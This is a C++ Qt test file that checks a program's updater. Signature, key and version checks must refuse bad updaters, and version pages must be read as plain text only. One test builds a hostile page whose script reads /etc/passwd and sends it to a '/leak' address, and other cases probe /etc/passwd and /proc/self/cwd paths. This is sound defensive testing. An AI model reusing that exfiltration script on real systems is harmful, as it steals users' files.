// The version check of the real program, on copies of the sample installation whose
// ContactInfo.xml points at a version page served by this test: a listed version downloads the
// updater into the installation folder and, when the manifest beside it is signed by an update
// key installed outside the library, names it and a newer version, shows the message, runs the
// updater and ends the program with exit code 0; an updater without a signed manifest, with a bad
// signature, another key's, a manifest of other bytes or of an older version, or with no key but
// one inside the library is not run and not left, the user is told why and the program goes on;
// the sample's own signed updater runs once its key is installed; a page that lists no installed
// version, or whose updater cannot be downloaded, leaves the program running; an unreachable page
// is given up within the check's times while the window keeps painting. The page is read as text
// and never run: its scripts reach nothing, and a file: page is read only from inside the library.
#include <QApplication>
#include <QCryptographicHash>
#include <QDeadlineTimer>
#include <QDir>
#include <QElapsedTimer>
#include <QFile>
#include <QProcess>
#include <QSignalSpy>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>
#include <QTimer>
#include <memory>
#include <string>
#include <string_view>
#include <vector>

#include "base/gbk.h"
#include "base/texts.h"
#include "core/update/updater_manifest.h"
#include "core/xml/xml_document.h"
#include "gui/app/page_fetcher.h"
#include "gui/common/engine_network.h"
#include "gui/frame/main_frame.h"
#include "gui_test_support.h"
#include "update/http_test_server.h"

namespace tomeva::gui {
namespace {

using testing::TestApp;
using tomeva::testing::HttpTestServer;
using Reply = HttpTestServer::Reply;

constexpr int kRunTimeoutMs = 60000;
// Marks its start, and its end 8 s later: the program does not wait for it past 3 s. It also
// notes the web engine flags it was given: a program started by ours gets the user's, not the
// closed network of our own engine.
const QByteArray kUpdater =
    "#!/bin/sh\necho ran > marker\necho \"$QTWEBENGINE_CHROMIUM_FLAGS\" > engine-flags\n"
    "sleep 8\necho done > done\n";
const char kMessage[] = "系统有新版本，需要更新。系统将关闭以运行更新程序。";
// Other bytes than the updater's.
const QByteArray kOtherUpdater = "#!/bin/sh\necho substituted > marker\n";

// The publisher's manifest of `updater` named `name` at `version`.
QByteArray Manifest(const QByteArray& name, const QByteArray& version, const QByteArray& updater) {
  return QByteArray(kManifestFirstLine) + "\nfile " + name + "\nversion " + version + "\nsha256 " +
         QCryptographicHash::hash(updater, QCryptographicHash::Sha256).toHex() + "\n";
}

// The version page as the maker would publish it.
QByteArray VersionXml(const QString& file_url, const QStringList& versions) {
  QByteArray page = "<?xml version=\"1.0\" encoding=\"GB2312\"?>\r\n<versions>\r\n<file>" +
                    file_url.toLatin1() + "</file>\r\n";
  for (const QString& v : versions) page += "<update version=\"" + v.toLatin1() + "\"/>\r\n";
  return page + "</versions>";
}

// The same page as an HTML page showing the XML as its text.
QByteArray VersionHtml(const QString& file_url, const QStringList& versions) {
  QByteArray xml = VersionXml(file_url, versions);
  xml.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;");
  return "<html><head><title>versions</title></head><body><pre>" + xml + "</pre></body></html>";
}

QByteArray ReadAll(const QString& path) {
  QFile file(path);
  return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

bool WriteAll(const QString& path, const QByteArray& bytes) {
  QFile file(path);
  return file.open(QIODevice::WriteOnly | QIODevice::Truncate) && file.write(bytes) == bytes.size();
}

// The file tools do it in a fraction of the time Qt's file-by-file copy and removal take for the
// sample's thousand files.
bool RunFileTool(const QString& program, const QStringList& arguments) {
  QProcess tool;
  tool.start(program, arguments);
  return tool.waitForFinished(60000) && tool.exitStatus() == QProcess::NormalExit &&
         tool.exitCode() == 0;
}

}  // namespace

class UpdateGuiTest : public QObject {
  Q_OBJECT

 public:
  // As the program does: its web engine reaches no network; the page is read without it.
  static void initMain() { CloseEngineNetwork(); }

 private slots:
  void initTestCase();
  void listedVersionUpdatesAndEnds();
  void unsignedUpdaterIsNotRun();
  void badSignatureIsNotRun();
  void otherKeysSignatureIsNotRun();
  void keyInTheLibraryAloneIsNotTrusted();
  void olderUpdaterIsNotRun();
  void manifestOfOtherBytesIsNotRun();
  void samplesOwnSignedUpdaterRuns();
  void scriptedVersionPageRunsNothing();
  void unlistedVersionKeepsRunning();
  void failedDownloadKeepsRunning();
  void unreachablePageIsGivenUpWhileTheWindowPaints();
  void pageIsReadAsTextAndStopsASilentServer();
  void fileVersionPageOnlyFromTheLibrary();
  void cleanupTestCase();

 private:
  // Where the test's key goes for an installation.
  enum class Key {
    kUser,         // the user's key file (and another key in the package's)
    kLibraryOnly,  // update.pub in the library, and no key installed
  };
  // A copy of the sample whose version check reads `check_url`, with the test's key where `key`
  // says; its path. The program started on it (Start) finds the package's, administrator's and
  // user's key folders beside it: `dir`.package, `dir`.site, `dir`.config.
  QString Installation(const QString& name, const QString& check_url, Key key = Key::kUser);
  // Runs signify-openbsd with `arguments`; true when it succeeded.
  bool Signify(const QStringList& arguments);
  // The signature file of `bytes` made with the key pair `key` ("test" or "other").
  QByteArray Sign(const QByteArray& bytes, const QString& key);
  // Starts the program on an installation whose page lists the updater at `path` for the
  // installed version, and checks that it is not run nor left, that the program goes on, and
  // that the user was shown `refusal` naming the updater.
  void ExpectRefused(const QString& name, const QString& path, Key key, const std::string& told);
  // Starts the program in `dir` with a runtime folder of its own.
  std::unique_ptr<QProcess> Start(const QString& dir);
  // Waits, serving the page meanwhile, until the program has printed its start-up log (it has
  // entered its event loop) or has ended; true for the former.
  static bool WaitUntilRunning(QProcess* program, QByteArray* output);
  // The names in `dir`, sorted.
  static QStringList Names(const QString& dir) {
    return QDir(dir).entryList(QDir::AllEntries | QDir::NoDotAndDotDot | QDir::Hidden,
                               QDir::Name);
  }

  QTemporaryDir temp_;
  QString sample_;
  QString keys_;
  HttpTestServer server_;
};

void UpdateGuiTest::initTestCase() {
  // The private folders' variables are added before the engine starts its threads: adding a
  // variable may move the environment while one of them reads it.
  QVERIFY(temp_.isValid());
  QVERIFY(testing::UseFoldersIn(temp_));
  StartEngineAndRestoreEnvironment();
  QVERIFY(server_.listening());
  sample_ = temp_.filePath(QStringLiteral("sample"));
  QVERIFY(testing::MakeSample(sample_));
  // The publisher's key pair, another installed beside it, and a stranger's.
  QVERIFY2(!QStandardPaths::findExecutable(QStringLiteral("signify-openbsd")).isEmpty(),
           "signify-openbsd is needed (scripts/packages.txt)");
  keys_ = temp_.filePath(QStringLiteral("keys"));
  QVERIFY(QDir().mkpath(keys_));
  for (const QString& key :
       {QStringLiteral("test"), QStringLiteral("other"), QStringLiteral("stranger")}) {
    QVERIFY(
        Signify({QStringLiteral("-G"), QStringLiteral("-n"), QStringLiteral("-p"),
                 keys_ + "/" + key + ".pub", QStringLiteral("-s"), keys_ + "/" + key + ".sec"}));
  }
  const QByteArray manifest = Manifest("setup.sh", "4.0.0.2", kUpdater);
  server_.Set("/dl/setup.sh", Reply::Body(200, kUpdater));
  server_.Set("/dl/setup.sh.manifest", Reply::Body(200, manifest));
  server_.Set("/dl/setup.sh.manifest.sig",
              Reply::Body(200, Sign(manifest, QStringLiteral("test"))));
  // A manifest, but no signature: the .sig address answers 404.
  server_.Set("/unsigned/setup.sh", Reply::Body(200, kUpdater));
  server_.Set("/unsigned/setup.sh.manifest", Reply::Body(200, manifest));
  // A good signature of another manifest.
  server_.Set("/badsig/setup.sh", Reply::Body(200, kUpdater));
  server_.Set("/badsig/setup.sh.manifest", Reply::Body(200, manifest));
  server_.Set(
      "/badsig/setup.sh.manifest.sig",
      Reply::Body(200, Sign(Manifest("setup.sh", "4.0.0.3", kUpdater), QStringLiteral("test"))));
  server_.Set("/otherkey/setup.sh", Reply::Body(200, kUpdater));
  server_.Set("/otherkey/setup.sh.manifest", Reply::Body(200, manifest));
  server_.Set("/otherkey/setup.sh.manifest.sig",
              Reply::Body(200, Sign(manifest, QStringLiteral("stranger"))));
  // An older updater, duly signed by the publisher's key when it was new.
  const QByteArray older = Manifest("setup.sh", "4.0.0.0", kUpdater);
  server_.Set("/older/setup.sh", Reply::Body(200, kUpdater));
  server_.Set("/older/setup.sh.manifest", Reply::Body(200, older));
  server_.Set("/older/setup.sh.manifest.sig",
              Reply::Body(200, Sign(older, QStringLiteral("test"))));
  // The signed manifest of the updater, served with other bytes in the updater's place.
  server_.Set("/swapped/setup.sh", Reply::Body(200, kOtherUpdater));
  server_.Set("/swapped/setup.sh.manifest", Reply::Body(200, manifest));
  server_.Set("/swapped/setup.sh.manifest.sig",
              Reply::Body(200, Sign(manifest, QStringLiteral("test"))));
}

bool UpdateGuiTest::Signify(const QStringList& arguments) {
  QProcess tool;
  tool.start(QStringLiteral("signify-openbsd"), arguments);
  return tool.waitForFinished(30000) && tool.exitStatus() == QProcess::NormalExit &&
         tool.exitCode() == 0;
}

QByteArray UpdateGuiTest::Sign(const QByteArray& bytes, const QString& key) {
  const QString message = keys_ + QStringLiteral("/message");
  if (!WriteAll(message, bytes) ||
      !Signify({QStringLiteral("-S"), QStringLiteral("-s"), keys_ + "/" + key + ".sec",
                QStringLiteral("-m"), message, QStringLiteral("-x"), message + ".sig"})) {
    return {};
  }
  return ReadAll(message + ".sig");
}

QString UpdateGuiTest::Installation(const QString& name, const QString& check_url, Key key) {
  const QString dir = temp_.filePath(name);
  if (!RunFileTool(QStringLiteral("cp"), {QStringLiteral("-a"), sample_, dir})) return {};
  for (const char* folder : {".package", ".site", ".config"}) {
    if (!QDir().mkpath(dir + QLatin1String(folder))) return {};
  }
  if (key == Key::kUser) {
    if (!QFile::copy(keys_ + QStringLiteral("/test.pub"),
                     dir + QStringLiteral(".config/update.pub")) ||
        !QFile::copy(keys_ + QStringLiteral("/other.pub"),
                     dir + QStringLiteral(".package/update.pub"))) {
      return {};
    }
  } else if (!QFile::copy(keys_ + QStringLiteral("/test.pub"),
                          dir + QStringLiteral("/update.pub"))) {
    return {};
  }
  QFile contact(dir + QStringLiteral("/ContactInfo.xml"));
  if (!contact.open(QIODevice::WriteOnly | QIODevice::Truncate)) return {};
  const QByteArray text =
      "<?xml version=\"1.0\" encoding=\"GB2312\"?>\r\n<ContactInfo>"
      "<CheckVersionUrl>" +
      check_url.toUtf8() + "</CheckVersionUrl></ContactInfo>";
  if (contact.write(text) != text.size()) return {};
  return dir;
}

std::unique_ptr<QProcess> UpdateGuiTest::Start(const QString& dir) {
  auto program = std::make_unique<QProcess>();
  QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
  const QString run = dir + QStringLiteral(".run");
  QDir().mkpath(run);
  QFile::setPermissions(run,
                        QFileDevice::ReadOwner | QFileDevice::WriteOwner | QFileDevice::ExeOwner);
  env.insert(QStringLiteral("TOMEVA_RUNTIME_DIR"), run);
  env.insert(QStringLiteral("TOMEVA_REGISTRY_DIR"), dir + QStringLiteral(".registry"));
  env.insert(QStringLiteral("TOMEVA_PACKAGE_CONFIG_DIR"), dir + QStringLiteral(".package"));
  env.insert(QStringLiteral("TOMEVA_SITE_CONFIG_DIR"), dir + QStringLiteral(".site"));
  env.insert(QStringLiteral("TOMEVA_USER_CONFIG_DIR"), dir + QStringLiteral(".config"));
  env.insert(QStringLiteral("TOMEVA_STARTUP_TIMING"), QStringLiteral("1"));
  env.insert(QStringLiteral("TOMEVA_ACCEPT_MESSAGES"), QStringLiteral("1"));
  program->setProcessEnvironment(env);
  program->setWorkingDirectory(dir);
  program->setProgram(QStringLiteral(TOMEVA_BINARY_DIR "/src/gui/tomeva"));
  program->start();
  return program;
}

bool UpdateGuiTest::WaitUntilRunning(QProcess* program, QByteArray* output) {
  QDeadlineTimer deadline(kRunTimeoutMs);
  while (!deadline.hasExpired()) {
    *output += program->readAllStandardError();
    if (output->contains("startup main-window-shown")) return true;
    if (program->state() == QProcess::NotRunning) return false;
    QSignalSpy spy(program, &QProcess::readyReadStandardError);
    spy.wait(200);
  }
  return false;
}

void UpdateGuiTest::listedVersionUpdatesAndEnds() {
  server_.Set("/v.xml", Reply::Body(200,
                                    VersionXml(server_.Url(QStringLiteral("/dl/setup.sh")),
                                               {QStringLiteral("4.0.0.0"),
                                                QStringLiteral("4.0.0.1")}),
                                    "text/xml"));
  const QString dir = Installation(QStringLiteral("listed"), server_.Url(QStringLiteral("/v.xml")));
  QVERIFY(!dir.isEmpty());
  QVERIFY(WriteAll(dir + QStringLiteral("/setup.sh"), "an older updater"));

  std::unique_ptr<QProcess> program = Start(dir);
  QSignalSpy finished(program.get(), &QProcess::finished);
  QVERIFY(finished.wait(kRunTimeoutMs));
  const QString output = QString::fromUtf8(program->readAllStandardError());
  QCOMPARE(program->exitStatus(), QProcess::NormalExit);
  QCOMPARE(program->exitCode(), 0);
  // The page (installed version 4.0.0.1, recorded by this first start), then the updater, its
  // manifest and the manifest's signature, which the user's key verifies (the package's key is
  // another).
  QCOMPARE(server_.requests(),
           (QStringList{QStringLiteral("/v.xml"), QStringLiteral("/dl/setup.sh"),
                        QStringLiteral("/dl/setup.sh.manifest"),
                        QStringLiteral("/dl/setup.sh.manifest.sig")}));
  QFile updater(dir + QStringLiteral("/setup.sh"));
  QVERIFY(updater.open(QIODevice::ReadOnly));
  QCOMPARE(updater.readAll(), kUpdater);
  QVERIFY(updater.permissions() & QFileDevice::ExeOwner);
  // The message was shown and answered before the updater started and the program ended.
  const qsizetype message = output.indexOf(QStringLiteral("message accepted: ") +
                                           QString::fromUtf8(kMessage));
  QVERIFY2(message >= 0, qPrintable(output));
  // The start-up log, written on the way out: the window was shown before the check.
  const qsizetype shown = output.indexOf(QStringLiteral("startup main-window-shown"));
  QVERIFY2(shown > message, qPrintable(output));
  QVERIFY(output.indexOf(QStringLiteral("startup updater-started")) > shown);
  QVERIFY(QFile::exists(dir + QStringLiteral("/marker")));
  QVERIFY(!QFile::exists(dir + QStringLiteral("/done")));
  QVERIFY(!Names(dir).join(' ').contains(QStringLiteral(".part")));
  QCOMPARE(ReadAll(dir + QStringLiteral("/engine-flags")),
           qgetenv("QTWEBENGINE_CHROMIUM_FLAGS") + "\n");
}

void UpdateGuiTest::ExpectRefused(const QString& name, const QString& path, Key key,
                                  const std::string& told_gbk) {
  const QString page = QStringLiteral("/%1.xml").arg(name);
  const QString updater_url = server_.Url(path);
  // Listed twice: a refused updater is not fetched again.
  server_.Set(
      page.toLatin1(),
      Reply::Body(200,
                  VersionXml(updater_url, {QStringLiteral("4.0.0.1"), QStringLiteral("4.0.0.1")}),
                  "text/xml"));
  const QString dir = Installation(name, server_.Url(page), key);
  QVERIFY(!dir.isEmpty());
  QVERIFY(WriteAll(dir + QStringLiteral("/setup.sh"), "an older updater"));
  const qsizetype asked = server_.requests().size();
  std::unique_ptr<QProcess> program = Start(dir);
  QByteArray output;
  QVERIFY2(WaitUntilRunning(program.get(), &output), output.constData());
  QTest::qWait(500);
  QCOMPARE(program->state(), QProcess::Running);
  QCOMPARE(server_.requests().mid(asked),
           (QStringList{page, path, path + ".manifest", path + ".manifest.sig"}));
  program->kill();
  QVERIFY(program->waitForFinished(10000));
  const QString told =
      QStringLiteral("message accepted: ") + QString::fromStdString(GbkToUtf8(told_gbk));
  QVERIFY2(QString::fromUtf8(output).contains(told), output.constData());
  QVERIFY(!output.contains(kMessage));
  QVERIFY(!output.contains("startup updater-started"));
  // Not run, not put in place, nothing of it left.
  QVERIFY(!QFile::exists(dir + QStringLiteral("/marker")));
  QCOMPARE(ReadAll(dir + QStringLiteral("/setup.sh")), QByteArray("an older updater"));
  const QString names = Names(dir).join(' ');
  QVERIFY2(!names.contains(QStringLiteral(".part")), qPrintable(names));
}

void UpdateGuiTest::unsignedUpdaterIsNotRun() {
  ExpectRefused(QStringLiteral("unsigned"), QStringLiteral("/unsigned/setup.sh"), Key::kUser,
                TextWith(kTextUpdaterUnsigned, server_.Url("/unsigned/setup.sh").toStdString()));
}

void UpdateGuiTest::badSignatureIsNotRun() {
  ExpectRefused(QStringLiteral("badsig"), QStringLiteral("/badsig/setup.sh"), Key::kUser,
                TextWith(kTextUpdaterBadSignature, server_.Url("/badsig/setup.sh").toStdString()));
}

// Signed by a key that neither the package nor the user installed.
void UpdateGuiTest::otherKeysSignatureIsNotRun() {
  ExpectRefused(QStringLiteral("otherkey"), QStringLiteral("/otherkey/setup.sh"), Key::kUser,
                TextWith(kTextUpdaterOtherKey, server_.Url("/otherkey/setup.sh").toStdString()));
}

// A library carries its own update.pub (a copied or shared library can): it vouches for nothing.
void UpdateGuiTest::keyInTheLibraryAloneIsNotTrusted() {
  ExpectRefused(QStringLiteral("librarykey"), QStringLiteral("/dl/setup.sh"), Key::kLibraryOnly,
                TextWith(kTextUpdaterNoKey, server_.Url("/dl/setup.sh").toStdString()));
}

// A plain http page names the publisher's older updater, signed when it was new.
void UpdateGuiTest::olderUpdaterIsNotRun() {
  ExpectRefused(QStringLiteral("older"), QStringLiteral("/older/setup.sh"), Key::kUser,
                TextWith(kTextUpdaterNotNewer,
                         {server_.Url("/older/setup.sh").toStdString(), "4.0.0.0", "4.0.0.1"}));
}

void UpdateGuiTest::manifestOfOtherBytesIsNotRun() {
  ExpectRefused(QStringLiteral("swapped"), QStringLiteral("/swapped/setup.sh"), Key::kUser,
                TextWith(kTextUpdaterNotMatching, server_.Url("/swapped/setup.sh").toStdString()));
}

// The sample as the maker wrote it: the publisher's part with its key, its updater and the
// updater's manifest with their signatures (signify-openbsd agrees), the key installed as the
// user's by the maker's installer step, and a page that lists the installed version.
void UpdateGuiTest::samplesOwnSignedUpdaterRuns() {
  const QString updater = sample_ + QStringLiteral("/updates/setup.sh");
  const QString key = sample_ + QStringLiteral("/updates/update.pub");
  for (const QString& file : {updater, updater + QStringLiteral(".manifest")}) {
    QVERIFY(
        Signify({QStringLiteral("-V"), QStringLiteral("-q"), QStringLiteral("-p"), key,
                 QStringLiteral("-m"), file, QStringLiteral("-x"), file + QStringLiteral(".sig")}));
  }
  QVERIFY(!QFile::exists(sample_ + QStringLiteral("/update.pub")));
  const QString dir =
      Installation(QStringLiteral("sample-update"), server_.Url(QStringLiteral("/sample.xml")));
  QVERIFY(!dir.isEmpty());
  // A file: updater is read only from inside the library the program runs in: the copy's own
  // publisher's part, as the sample's page names its own.
  const QString file_url = QStringLiteral("file://") + dir + QStringLiteral("/updates/setup.sh");
  server_.Set("/sample.xml",
              Reply::Body(200, VersionXml(file_url, {QStringLiteral("4.0.0.1")}), "text/xml"));
  QProcess maker;
  QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
  env.insert(QStringLiteral("TOMEVA_USER_CONFIG_DIR"), dir + QStringLiteral(".config"));
  maker.setProcessEnvironment(env);
  maker.start(QStringLiteral(TOMEVA_SAMPLE_MAKER),
              {QStringLiteral("--install-update-key"), sample_});
  QVERIFY(maker.waitForFinished(60000));
  QCOMPARE(maker.exitCode(), 0);
  QCOMPARE(ReadAll(dir + QStringLiteral(".config/update.pub")), ReadAll(key));
  std::unique_ptr<QProcess> program = Start(dir);
  QSignalSpy finished(program.get(), &QProcess::finished);
  QVERIFY(finished.wait(kRunTimeoutMs));
  const QByteArray output = program->readAllStandardError();
  QCOMPARE(program->exitCode(), 0);
  QVERIFY2(output.contains("startup updater-started"), output.constData());
  QCOMPARE(ReadAll(dir + QStringLiteral("/setup.sh")), ReadAll(updater));
  // The sample's updater writes its note in the folder it is started in.
  QDeadlineTimer deadline(10000);
  while (!QFile::exists(dir + QStringLiteral("/updater-ran.txt")) && !deadline.hasExpired()) {
    QTest::qWait(100);
  }
  QVERIFY(QFile::exists(dir + QStringLiteral("/updater-ran.txt")));
}

// A library's page whose script would list the installed version, fetch the updater and send a
// file of the user's away: read as text, it lists nothing and reaches nothing. Addressed through
// /proc/self/cwd (the library the program runs in, but not by the library's own address) it is
// not even read.
void UpdateGuiTest::scriptedVersionPageRunsNothing() {
  const QString leak = server_.Url(QStringLiteral("/leak"));
  const QByteArray listing =
      VersionXml(server_.Url(QStringLiteral("/dl/setup.sh")), {QStringLiteral("4.0.0.1")});
  const QByteArray page =
      "<html><body><p>no update</p><script>"
      "document.body.innerText = " +
      QByteArray("'") + listing.toBase64() +
      "';"
      "document.body.innerText = atob(document.body.innerText);"
      "var x = new XMLHttpRequest(); x.open('GET', 'file:///etc/passwd', false); x.send();"
      "fetch('" +
      leak.toLatin1() +
      "?' + encodeURIComponent(x.responseText));"
      "</script><img src=\"" +
      leak.toLatin1() + "\"></body></html>";
  for (const bool through_proc : {false, true}) {
    const QString name = QStringLiteral("scripted-%1").arg(through_proc ? 1 : 0);
    const QString dir = temp_.filePath(name);
    const QString address = through_proc ? QStringLiteral("file:///proc/self/cwd/evil.htm")
                                         : QStringLiteral("file://") + dir + "/evil.htm";
    QVERIFY(!Installation(name, address).isEmpty());
    QVERIFY(WriteAll(dir + QStringLiteral("/evil.htm"), page));
    const qsizetype asked = server_.requests().size();
    std::unique_ptr<QProcess> program = Start(dir);
    QByteArray output;
    QVERIFY2(WaitUntilRunning(program.get(), &output), output.constData());
    QTest::qWait(1000);
    QCOMPARE(program->state(), QProcess::Running);
    program->kill();
    QVERIFY(program->waitForFinished(10000));
    QCOMPARE(server_.requests().mid(asked), QStringList());
    QVERIFY(!output.contains("message accepted"));
    QVERIFY(!QFile::exists(dir + QStringLiteral("/setup.sh")));
  }
}

void UpdateGuiTest::unlistedVersionKeepsRunning() {
  server_.Set("/unlisted.htm",
              Reply::Body(200,
                          VersionHtml(server_.Url(QStringLiteral("/dl/setup.sh")),
                                      {QStringLiteral("4.0.0.0"), QStringLiteral("4.0.0.2")}),
                          "text/html"));
  const QString dir =
      Installation(QStringLiteral("unlisted"), server_.Url(QStringLiteral("/unlisted.htm")));
  QVERIFY(!dir.isEmpty());
  const qsizetype asked = server_.requests().size();
  std::unique_ptr<QProcess> program = Start(dir);
  QByteArray output;
  QVERIFY2(WaitUntilRunning(program.get(), &output), output.constData());
  QTest::qWait(1000);
  QCOMPARE(program->state(), QProcess::Running);
  QCOMPARE(server_.requests().mid(asked), QStringList{QStringLiteral("/unlisted.htm")});
  program->kill();
  QVERIFY(program->waitForFinished(10000));
  // Only what any start writes: nothing of an updater.
  QVERIFY(!QFile::exists(dir + QStringLiteral("/setup.sh")));
  QVERIFY(!output.contains("message accepted"));
}

void UpdateGuiTest::failedDownloadKeepsRunning() {
  // Listed twice: each listing tries the download once. The page is HTML showing the XML.
  server_.Set("/gone.htm",
              Reply::Body(200,
                          VersionHtml(server_.Url(QStringLiteral("/dl/gone.sh")),
                                      {QStringLiteral("4.0.0.1"), QStringLiteral("4.0.0.1")}),
                          "text/html"));
  const QString dir = Installation(QStringLiteral("gone"), server_.Url(QStringLiteral("/gone.htm")));
  QVERIFY(!dir.isEmpty());
  const qsizetype asked = server_.requests().size();
  std::unique_ptr<QProcess> program = Start(dir);
  QByteArray output;
  QVERIFY2(WaitUntilRunning(program.get(), &output), output.constData());
  QTest::qWait(500);
  QCOMPARE(program->state(), QProcess::Running);
  QCOMPARE(server_.requests().mid(asked),
           (QStringList{QStringLiteral("/gone.htm"), QStringLiteral("/dl/gone.sh"),
                        QStringLiteral("/dl/gone.sh")}));
  program->kill();
  QVERIFY(program->waitForFinished(10000));
  const QString names = Names(dir).join(' ');
  QVERIFY2(!names.contains(QStringLiteral("gone.sh")), qPrintable(names));
  QVERIFY(!output.contains("message accepted"));
}

// In this process, so that the window's painting and the event loop can be watched while the
// check waits for a page that cannot be had.
void UpdateGuiTest::unreachablePageIsGivenUpWhileTheWindowPaints() {
  quint16 closed_port = 0;
  {
    HttpTestServer gone;
    closed_port = gone.port();
  }
  const QString dir = Installation(
      QStringLiteral("unreachable"),
      QStringLiteral("http://127.0.0.1:%1/version.xml").arg(closed_port));
  QVERIFY(!dir.isEmpty());
  QVERIFY(QDir::setCurrent(dir));

  auto app = std::make_unique<TestApp>();
  // Counted once the main window is visible, that is during the version check.
  int ticks = 0;
  int paints = 0;
  QElapsedTimer since_shown;
  QTimer timer;
  QObject::connect(&timer, &QTimer::timeout, [&] {
    CMainFrame* frame = app->main_frame();
    if (frame == nullptr || !frame->isVisible()) return;
    if (!since_shown.isValid()) since_shown.start();
    ++ticks;
  });
  timer.start(100);
  struct PaintCounter : QObject {
    int* count;
    explicit PaintCounter(int* c) : count(c) {}
    bool eventFilter(QObject* watched, QEvent* event) override {
      auto* widget = qobject_cast<QWidget*>(watched);
      if (event->type() == QEvent::Paint && widget != nullptr &&
          qobject_cast<CMainFrame*>(widget->window()) != nullptr) {
        ++*count;
      }
      return false;
    }
  } counter(&paints);
  qApp->installEventFilter(&counter);
  const bool running = app->InitInstance();
  qApp->removeEventFilter(&counter);
  timer.stop();
  QVERIFY(running);
  QVERIFY(app->recorded.isEmpty());
  QVERIFY(since_shown.isValid());
  const qint64 check_ms = since_shown.elapsed();
  qInfo("unreachable page: the check took %lld ms; %d timer ticks and %d paints meanwhile",
        static_cast<long long>(check_ms), ticks, paints);
  // Five attempts, each at least one poll, and the final wait; at most five given-up attempts and
  // the final wait.
  QVERIFY2(check_ms >= 5 * 1000 + 2000, qPrintable(QString::number(check_ms)));
  QVERIFY2(check_ms <= 5 * 7000 + 2000, qPrintable(QString::number(check_ms)));
  QVERIFY(ticks >= check_ms / 100 / 2);
  QVERIFY(paints > 0);
  app.reset();
}

void UpdateGuiTest::cleanupTestCase() {
  RunFileTool(QStringLiteral("rm"), {QStringLiteral("-rf"), temp_.path()});
}

// The reader itself, with short waits: an XML page gives its source, an HTML page its shown text
// and nothing its scripts would write or fetch, an http page that redirects and a page over the
// size limit give nothing, a page that never loads is stopped at the last busy reading, and a
// refused connection gives nothing after every attempt.
void UpdateGuiTest::pageIsReadAsTextAndStopsASilentServer() {
  const QByteArray xml = VersionXml(QStringLiteral("http://h/u.sh"), {QStringLiteral("4.0.0.1")});
  server_.Set("/p.xml", Reply::Body(200, xml, "application/xml"));
  const QByteArray fetched = server_.Url(QStringLiteral("/fetched")).toLatin1();
  server_.Set("/p.htm", Reply::Body(200,
                                    "<html><head><link rel=stylesheet href=\"" + fetched +
                                        "\"></head><body><p>第一行</p><p>two &amp; three</p>"
                                        "<script>document.write('by script');fetch('" +
                                        fetched + "')</script><img src=\"" + fetched +
                                        "\"><iframe src=\"" + fetched +
                                        "\"></iframe>"
                                        "</body></html>",
                                    "text/html; charset=utf-8"));
  server_.Set("/silent", Reply::Silent());
  // An http page is not followed elsewhere, and a page is not taken past its size limit.
  server_.Set("/moved", Reply::Redirect(server_.Url(QStringLiteral("/p.htm")).toLatin1()));
  server_.Set("/big", Reply::Body(200, "<html><body><pre>" +
                                           QByteArray(kMaxPageBytes, 'x') + "</pre></body></html>",
                                  "text/html"));
  quint16 closed_port = 0;
  {
    HttpTestServer gone;
    closed_port = gone.port();
  }
  PageFetchTiming quick;
  quick.attempts = 2;
  quick.poll_ms = 200;
  quick.max_busy_readings = 3;
  quick.settle_ms = 50;
  quick.final_ms = 50;
  struct Case {
    const char* name;
    QString url;
    std::string text;
    qint64 min_ms;
  };
  const std::vector<Case> cases = {
      {"xml", server_.Url(QStringLiteral("/p.xml")), "", 0},
      {"html", server_.Url(QStringLiteral("/p.htm")), Utf8ToGbk("第一行\n\ntwo & three"), 0},
      {"redirected", server_.Url(QStringLiteral("/moved")), "", 0},
      {"too large", server_.Url(QStringLiteral("/big")), "", 0},
      {"silent", server_.Url(QStringLiteral("/silent")), "", 2 * 3 * 200},
      {"refused", QStringLiteral("http://127.0.0.1:%1/v.xml").arg(closed_port), "", 2 * 200},
  };
  for (const Case& c : cases) {
    QElapsedTimer clock;
    clock.start();
    const std::string text = FetchPageText(c.url.toStdString(), sample_.toStdString(), quick);
    const qint64 ms = clock.elapsed();
    qInfo("%s: %lld ms", c.name, static_cast<long long>(ms));
    if (std::string_view(c.name) == "xml") {
      // The source as XML, readable by the version check.
      CXmlDocument page;
      QVERIFY2(page.ParseText(text) == 1, text.c_str());
      QCOMPARE(page.GetText("file"), std::string("http://h/u.sh"));
      std::vector<std::string> updates;
      page.GetAttributeStrings("update", &updates);
      QCOMPARE(updates.size(), size_t{1});
    } else {
      QCOMPARE(text, c.text);
    }
    QVERIFY2(ms >= c.min_ms, c.name);
    QVERIFY2(ms < 15000, c.name);
  }
  // Nothing the page refers to was asked for.
  QVERIFY2(!server_.requests().contains(QStringLiteral("/fetched")),
           qPrintable(server_.requests().join(' ')));
}

// A file: page is read only from inside the library, as a regular file reached without a link:
// not through /proc/self/cwd (even when that is the library), not through a link in the library
// to a file or folder outside, not a folder, and nothing elsewhere on the machine.
void UpdateGuiTest::fileVersionPageOnlyFromTheLibrary() {
  const QString library = temp_.filePath(QStringLiteral("file-pages"));
  const QString outside = temp_.filePath(QStringLiteral("file-pages-outside"));
  QVERIFY(QDir().mkpath(library + QStringLiteral("/sub")) && QDir().mkpath(outside));
  const QByteArray xml = VersionXml(QStringLiteral("http://h/u.sh"), {QStringLiteral("4.0.0.1")});
  QVERIFY(WriteAll(library + QStringLiteral("/version.xml"), xml));
  QVERIFY(WriteAll(outside + QStringLiteral("/evil.htm"), "<pre>" + xml + "</pre>"));
  QVERIFY(
      QFile::link(outside + QStringLiteral("/evil.htm"), library + QStringLiteral("/evil.htm")));
  QVERIFY(QFile::link(outside, library + QStringLiteral("/out")));
  const QString cwd = QDir::currentPath();
  QVERIFY(QDir::setCurrent(outside));
  PageFetchTiming quick;
  quick.attempts = 2;
  quick.poll_ms = 10;
  quick.settle_ms = 0;
  quick.final_ms = 0;
  struct Case {
    QString url;
    bool read;
  };
  const std::vector<Case> cases = {
      {QStringLiteral("file://") + library + QStringLiteral("/version.xml"), true},
      {QStringLiteral("file:///proc/self/cwd/evil.htm"), false},
      {QStringLiteral("file://") + library + QStringLiteral("/evil.htm"), false},
      {QStringLiteral("file://") + library + QStringLiteral("/out/evil.htm"), false},
      {QStringLiteral("file://") + outside + QStringLiteral("/evil.htm"), false},
      {QStringLiteral("file://") + library + QStringLiteral("/sub"), false},
      {QStringLiteral("file:///etc/passwd"), false},
  };
  for (const Case& c : cases) {
    const std::string text = FetchPageText(c.url.toStdString(), library.toStdString(), quick);
